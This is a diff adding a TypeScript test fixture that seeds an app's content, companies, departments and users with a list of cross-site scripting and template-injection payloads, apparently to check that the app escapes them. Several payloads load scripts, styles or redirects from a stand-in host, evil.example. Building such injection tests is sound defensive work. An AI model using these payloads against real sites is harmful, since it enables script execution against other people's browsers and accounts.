@@ -1,0 +1,112 @@
+import type { TestServer } from '#testing/server.ts'
+import { addCompany, addDepartment, addUser } from '#testing/builders.ts'
+import { addContent } from '#testing/content-rows.ts'
+
+const ran = 'globalThis.ran=1'
+
+/** V6: what runs where a text is taken for something else: markup, an address, a script, a style, a template. */
+export const payloads = [
+  `<script>${ran}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<img src=x onerror=${ran}>`,
+  `<img src="x" onerror="alert(1)">`,
+  `<svg onload=${ran}>`,
+  `<svg><script>${ran}</script></svg>`,
+  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
+  `<body onload=${ran}>`,
+  `<iframe src="javascript:${ran}"></iframe>`,
+  `<iframe srcdoc="<script>${ran}</script>"></iframe>`,
+  `<object data="javascript:${ran}"></object>`,
+  `<embed src="javascript:${ran}">`,
+  `<a href="javascript:${ran}">trykk</a>`,
+  `javascript:${ran}`,
+  `jAvAsCrIpT:alert(1)//`,
+  `data:text/html,<script>${ran}</script>`,
+  `"><script>${ran}</script>`,
+  `'><img src=x onerror=${ran}>`,
+  `" autofocus onfocus="${ran}`,
+  `' onmouseover='${ran}`,
+  `</title><script>${ran}</script>`,
+  `</textarea><script>${ran}</script>`,
+  `</style><script>${ran}</script>`,
+  `</script><script>${ran}</script>`,
+  `--><script>${ran}</script><!--`,
+  `<!--<img src="--><img src=x onerror=${ran}>">`,
+  `<math><mi xlink:href="javascript:${ran}">x</mi></math>`,
+  `<details open ontoggle=${ran}>`,
+  `<video><source onerror=${ran}></video>`,
+  `<input autofocus onfocus=${ran}>`,
+  `<form action="javascript:${ran}"><button>send</button></form>`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<div style="background:url(https://evil.example/x)">`,
+  `&lt;script&gt;${ran}&lt;/script&gt;`,
+  `{{constructor.constructor('${ran}')()}}`,
+  '${' + ran + '}',
+  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
+  `<template><script>${ran}</script></template>`,
+  `\u202E<script>${ran}</script>`,
+] as const
+
+type Fields = Readonly<Record<string, unknown>>
+
+/** Every text that somebody can type of one kind of content, each of them the payload. */
+const textsOf = {
+  'symptom-group': (text: string): Fields => ({ nameEn: text, description: text }),
+  symptom: (text: string): Fields => ({ nameEn: text, helpText: text, urgentAction: text }),
+  question: (text: string): Fields => ({ textEn: text }),
+  approach: (text: string, at: number): Fields => ({
+    nameEn: text,
+    description: text,
+    rationale: text,
+    deliveredBy: text,
+    number: 800 + at,
+  }),
+  category: (text: string): Fields => ({ nameEn: text, description: text }),
+  'bank-symptom': (text: string): Fields => ({
+    nameEn: text,
+    description: text,
+    infoText: text,
+    alertText: text,
+  }),
+  module: (text: string, at: number): Fields => ({
+    nameEn: text,
+    description: text,
+    recommendations: [text],
+    code: `X${at}`,
+  }),
+} as const
+
+/** Everyone's content and an organisation, in which every text is one of them; where the organisation is. */
+export const fillIn = async (server: TestServer) => {
+  const { services, passwordHash } = server
+  const first = payloads[0]
+  const callList = payloads
+    .slice(0, 10)
+    .map((text) => ({ name: text, phone: text.slice(0, 40), hours: text }))
+  const companyId = await addCompany(services, { name: first, contactPerson: first })
+  const departmentId = await addDepartment(services, { companyId, name: first, callList })
+  for (const [at, text] of payloads.entries()) {
+    for (const [kind, fieldsOf] of Object.entries(textsOf)) {
+      await addContent(services, kind as keyof typeof textsOf, {
+        companyId: null,
+        name: text,
+        status: 'published',
+        orderIndex: 100 + at,
+        fields: fieldsOf(text, at),
+      })
+    }
+    await addCompany(services, { name: text, contactPerson: text })
+    await addDepartment(services, { companyId, name: text })
+    await addUser(services, passwordHash, {
+      role: 'counselor',
+      companyId,
+      departmentId,
+      fullName: text,
+      phone: text.slice(0, 40),
+    })
+  }
+  return { companyId, departmentId }
+}
